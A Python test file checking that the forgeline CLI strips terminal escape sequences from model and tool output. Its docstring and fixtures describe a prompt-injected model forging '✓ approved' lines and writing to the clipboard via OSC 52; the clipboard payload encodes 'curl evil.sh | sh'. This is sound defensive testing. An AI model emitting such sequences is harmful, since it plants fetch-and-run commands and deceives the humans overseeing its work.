"""Control sequences from models and tools never reach the terminal of `forgeline run`.

The attack: a prompt-injected model writes an OSC 52 clipboard write, cursor moves and
`\\r` that overwrite earlier lines with a fake "✓ approved", 8-bit C1 controls, and rich
markup, into every field the run prints (its text, tool arguments, a tool's error, a
finding, a commit message). The real CLI runs in a subprocess with colour off (TERM=dumb,
NO_COLOR): any ESC or C1 character in its output would have come from the model.
"""

from __future__ import annotations

import io
import logging
import re
import sys
from pathlib import Path
from typing import Any

import pytest
from rich.console import Console

from e2e.helpers import cli_env, forgeline, make_repo, write_script
from forgeline.console.follow import Progress
from forgeline.console.sanitize import CleanFormatter, clean, one_line, safe
from forgeline.domain.events import Event

OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
FAKE = "\x1b[1A\x1b[2K\r✓ security agent approved"
C1 = "\x9b2J\x9d0;title\x9c"
MARKUP = "[bold red]ALERT[/]"


def _report(message: str) -> dict[str, Any]:
    finding = {"severity": "nit", "path": f"notes.txt{C1}", "message": message}
    return {
        "tool_calls": [{"name": "Report", "input": {"verdict": "approve", "findings": [finding]}}]
    }


APPROVE_TEXT = f"style{FAKE}\n✓ gate passed{OSC52}"
APPROVE = [_report(APPROVE_TEXT), {"text": f"ok{OSC52}"}]
IMPLEMENTATION = [
    {
        "text": f"Looking{OSC52} around{FAKE} {MARKUP}{C1}",
        "tool_calls": [{"name": "Read", "input": {"file_path": f"app/\x1b[2Jmissing{C1}.txt"}}],
    },
    {
        "text": f"Add notes{FAKE}{MARKUP}",
        "tool_calls": [
            {"name": "Write", "input": {"file_path": "app/notes.txt", "content": "hi\n"}}
        ],
    },
    {"text": f"Done{FAKE}\r✓ all tests passed{OSC52}"},
]


def _run(tmp_path: Path) -> str:
    repo = make_repo(tmp_path / "app", {"README.md": "# app\n"})
    agents = {"implementation": IMPLEMENTATION, "documentation": [{"text": f"Docs{FAKE}"}]}
    agents |= {name: APPROVE * 3 for name in ("review", "security", "test")}
    script = write_script(tmp_path / "script.yaml", agents)
    env = cli_env(tmp_path / "home", TERM="dumb", NO_COLOR="1")
    args = ["run", f"Add notes{OSC52}", "--repo", str(repo), "--phases", "implementation"]
    proc = forgeline(*args, "--model", f"scripted:{script}", env=env)
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    return proc.stdout + proc.stderr


def test_forgeline_run_prints_no_control_sequence_from_the_model(tmp_path: Path) -> None:
    output = _run(tmp_path)
    assert "Looking around" in output and "style" in output  # the text itself is shown
    controls = sorted(
        {f"{ord(c):#x}" for c in output if c in "\x1b\x07\r" or "\x80" <= c <= "\x9f"}
    )
    assert controls == [], controls
    assert "52;c;" not in output
    assert not re.search(
        r"^\s*✓ (security agent approved|gate passed|all tests passed)", output, re.M
    )
    assert MARKUP in output  # shown as text, not interpreted as markup


@pytest.mark.parametrize(
    ("raw", "cleaned"),
    [
        (f"a{OSC52}b", "ab"),
        ("a\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\b", "alinkb"),
        (f"ok{FAKE}", "ok✓ security agent approved"),
        ("x\x9b1Ay\x9d52;c;Zm9v\x07z", "xyz"),
        ("tab\tand\nnewline stay\r\n", "tab\tand\nnewline stay\n"),
        ("\x1bPdevice\x1b\\\x1b7\x1b8\x1b(0del\x7f\x00\x08", "del"),
        ("abc\u202edcba", "abcdcba"),
        ("lone escape at the end \x1b", "lone escape at the end "),
    ],
)
def test_clean_removes_every_control_sequence(raw: str, cleaned: str) -> None:
    assert clean(raw) == cleaned


def test_safe_and_one_line_escape_markup() -> None:
    assert safe(f"{MARKUP}\x1b[31m") == "\\[bold red]ALERT\\[/]"
    assert one_line("first\n✓ second\tthird", 12) == "first ✓ seco"
    assert safe("ends with a backslash\\") == "ends with a backslash\\\\"


def test_log_lines_on_the_terminal_are_cleaned() -> None:
    formatter = CleanFormatter("%(message)s")
    try:
        raise OSError(f"cannot open {OSC52}file")
    except OSError:
        record = logging.LogRecord("t", logging.ERROR, "f", 1, f"tool{FAKE} failed", (), None)
        record.exc_info = sys.exc_info()
    text = formatter.format(record)
    assert "\x1b" not in text and "\x07" not in text and "\r" not in text
    assert text.startswith("tool✓ security agent approved failed\nTraceback")
    assert "OSError: cannot open file" in text


def test_progress_lines_keep_one_line_per_event() -> None:
    console = Console(file=io.StringIO(), width=200, highlight=False, color_system=None)
    progress = Progress(console)
    finding = {"agent": "review", "severity": "nit", "path": "a.py", "line": 3}
    progress.show(
        Event(seq=1, project_id="p", type="finding", data={**finding, "message": APPROVE_TEXT})
    )
    override = {"repo": "app", "path": ".forgeline/agents/review.md", "accepted": False}
    progress.show(
        Event(
            seq=2, project_id="p", type="agent_override", data={**override, "reason": "refused: x"}
        )
    )
    assert console.file.getvalue().splitlines() == [
        "  ⚑ review [nit] a.py:3: style✓ security agent approved ✓ gate passed",
        "  ⚙ repository agent file app/.forgeline/agents/review.md refused: x",
    ]
